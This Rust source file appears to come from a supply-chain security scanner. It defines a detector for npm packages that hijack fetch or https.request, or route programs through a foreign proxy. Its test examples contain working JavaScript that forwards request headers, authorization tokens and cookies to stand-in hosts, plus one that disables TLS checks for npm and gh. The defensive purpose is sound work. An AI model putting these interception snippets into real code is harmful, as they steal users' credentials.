//! A function for requests is replaced, and what passes through it goes to a host that the
//! package fixed.

use super::judge::{self, ByTrigger};
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, matrix, parameter_exfiltration};
use crate::behaviours::Behaviour;
use crate::model::{Confidence, Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "traffic-interception",
    title: "Reads along with every request of the program",
    severity: Severity::Critical,
    summary: "The package puts a function of its own in the place of `fetch`, of a function of `http` or of a page's requests, and what others hand to it reaches a host that the package fixed: keys in headers, prompts, bodies. Or it starts programs with a proxy of its choice, which reads along as well.",
    advice: "Don't load it beside code that talks to anybody. Change every key that a program with it has used.",
    benign_when: "A tool that watches a program sends its measurements to its maker, says so, and leaves out headers and bodies.",
    references: &["CWE-506", "CWE-923", "T1185", "T1557"],
    examples: &[
        Example {
            name: "the keys of every request are sent on",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const plain = globalThis.fetch;
Object.defineProperty(globalThis, "fetch", { value: (input, init) => {
  plain("https://warm.other.invalid/", { method: "POST", body: JSON.stringify(init.headers) });
  return plain(input, init);
} });"#,
                ),
            ],
        },
        Example {
            name: "the keys of every request go to the maker, from another file",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","repository":"https://git.kit.example/a"}"#,
                ),
                (
                    "i.js",
                    r#"const https = require("https");
const { note } = require("./outbox");
const plain = https.request;
module.exports = () => {
  https.request = function (...args) {
    const request = plain.apply(this, args);
    request.on("finish", () => note(request.getHeaders()));
    return request;
  };
};"#,
                ),
                (
                    "outbox.js",
                    r#"exports.note = (headers) => {
  fetch("https://in.kit.example/l", { method: "POST", body: JSON.stringify({ a: headers.authorization, c: headers.cookie }) }).catch(() => {});
};"#,
                ),
            ],
        },
        Example {
            name: "commands that publish are led through a proxy of its choice",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const cp = require("child_process");
exports.start = (command, args) => {
  const env = /^(npm|gh)$/.test(command)
    ? { ...process.env, HTTPS_PROXY: "http://192.0.2.71:3128", NODE_TLS_REJECT_UNAUTHORIZED: "0" }
    : process.env;
  return cp.spawn(command, args, { env });
};"#,
                ),
            ],
        },
        Example {
            name: "a test goes through a proxy of this machine",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.run = (command) => require("child_process").spawn(command, [], { env: { HTTPS_PROXY: "http://localhost:8080" } });"#,
                ),
            ],
        },
        Example {
            name: "requests are tried again",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const plain = globalThis.fetch;
globalThis.fetch = async (input, init) => {
  for (let left = 3; ; left--) {
    const answer = await plain(input, init);
    if (answer.ok || !left) return answer;
  }
};"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::High,
};

/// Programs are led through a proxy that the package names.
fn of_proxies(context: &Context<'_>, found: &mut Vec<Finding>) {
    let of = |id: &'static str| {
        context
            .behaviours
            .iter()
            .filter(move |one| one.what.id == id)
    };
    for behaviour in of("environment.proxy") {
        let Some(url) = behaviour.target.as_deref() else {
            continue;
        };
        if context.home.whose(url) != Some(Whose::Foreign) {
            continue;
        }
        let message = format!("leads other programs' requests through {url}");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        let unverified = |one: &Behaviour| {
            one.target.as_deref() == Some("NODE_TLS_REJECT_UNAUTHORIZED")
                && one
                    .sites
                    .iter()
                    .any(|a| behaviour.sites.iter().any(|b| a.file == b.file))
        };
        if !of("environment.write").any(unverified) {
            let note = "certificates are still checked".to_owned();
            finding.lower(Severity::Medium, "verified", note);
        }
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    of_proxies(context, found);
    let is_hook =
        |one: &&Behaviour| one.what.id == "module.hook" && one.target.as_deref() == Some("network");
    let hooks: Vec<&Behaviour> = context.behaviours.iter().filter(is_hook).collect();
    let mut told: Vec<&str> = Vec::new();
    for flow in context.flows {
        let is_given = matches!(flow.id, "parameter-to-network" | "request-to-network");
        let (Some(url), Some(last)) = (flow.sink.target.as_deref(), flow.steps.last()) else {
            continue;
        };
        let is_hidden = flow.sink.origin.has(Origin::Decoded);
        let Some(taker) = matrix::taker(&context.home, flow) else {
            continue;
        };
        if !is_given
            || told.contains(&url)
            || matches!(taker, "registry" | "local" | "callers" | "unknown")
        {
            continue;
        }
        // What lets its bearer in is no measurement, whosoever gets it.
        let name = flow.source.target.as_deref().unwrap_or_default();
        let has_login =
            parameter_exfiltration::is_login(name) || (taker != "own" && name == "headers");
        let is_login = flow.is_unanswered && has_login;
        let here = |one: &Behaviour| one.sites.iter().any(|site| site.file == last.place.file);
        let mut hooks = hooks.iter();
        let Some(hook) = hooks.find(|one| is_login || (taker != "own" && here(one))) else {
            continue;
        };
        told.push(url);
        let message = format!("replaces a function for requests, and sends what it gets to {url}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        finding.reach = hook.reach;
        finding.evidence.extend(hook.sites.iter().copied());
        finding.evidence.sort_unstable();
        finding.evidence.dedup();
        if !is_hidden {
            finding.confidence = Confidence::Medium;
        }
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}
